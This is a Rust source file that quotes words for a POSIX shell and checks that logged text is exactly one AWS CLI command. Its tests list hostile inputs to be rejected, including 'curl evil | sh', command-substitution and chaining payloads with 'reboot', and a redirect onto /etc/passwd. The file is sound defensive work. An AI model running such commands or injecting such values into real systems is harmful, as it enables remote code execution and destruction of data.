//! Words and commands for a POSIX shell: names and tags are often an attacker's own words.

/// One word of a command, exactly as it is.
pub fn for_shell(text: &str) -> String {
    if is_plain_word(text) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Whether a shell takes it as one word that means itself, and no command as an option: zsh reads `=name` as a path.
pub fn is_plain_word(text: &str) -> bool {
    !text.is_empty() && !text.starts_with(['-', '=']) && text.chars().all(is_plain)
}

fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "-_./:=,@+".contains(c)
}

/// Whether it is one command of the AWS CLI and nothing else: one line of plain words and words in single quotes, with a
/// comment at most. Commands to finish by hand come out of the log, and a log is no place to trust a command from.
pub fn is_one_command(text: &str) -> bool {
    let (command, comment) = text.split_once(" # ").unwrap_or((text, ""));
    if !command.starts_with("aws ") || comment.chars().any(char::is_control) {
        return false;
    }
    let mut is_quoted = false;
    let mut letters = command.chars();
    while let Some(letter) = letters.next() {
        let is_harmless = match letter {
            '\'' => {
                is_quoted = !is_quoted;
                true
            }
            '\\' if !is_quoted => letters.next() == Some('\''),
            _ if is_quoted => !letter.is_control(),
            _ => letter == ' ' || is_plain(letter),
        };
        if !is_harmless {
            return false;
        }
    }
    !is_quoted
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_sees_one_word() {
        assert_eq!(for_shell("arn:aws:ec2:eu-west-1"), "arn:aws:ec2:eu-west-1");
        assert_eq!(for_shell("two words"), "'two words'");
        assert_eq!(for_shell("web'; reboot #"), r"'web'\''; reboot #'");
        assert_eq!(for_shell("=ls"), "'=ls'");
        assert_eq!(for_shell(""), "''");
    }

    #[test]
    fn a_command_of_the_cli_is_told_from_whatever_else() {
        for command in [
            "aws iam delete-user-policy --user-name alice --policy-name BackstopDeny-01J",
            "aws ec2 create-tags --resources i-1 --tags 'Key=a,Value=$(reboot); x'",
            r"aws ec2 create-tags --resources i-1 --tags 'it'\''s'",
            "aws ec2 stop-instances --instance-ids i-1 # it was off; see the plan",
        ] {
            assert!(is_one_command(command), "{command}");
        }
        for text in [
            "curl evil | sh",
            "aws s3 ls; reboot",
            "aws s3 ls $(reboot)",
            "aws s3 ls `reboot`",
            "aws s3 ls && reboot",
            "aws s3 ls > /etc/passwd",
            "aws s3 ls\nreboot",
            "aws s3 ls 'open",
            r"aws s3 ls '\'; reboot",
            "aws s3 ls # x\nreboot",
            "awsx ls",
            "",
        ] {
            assert!(!is_one_command(text), "{text}");
        }
    }
}
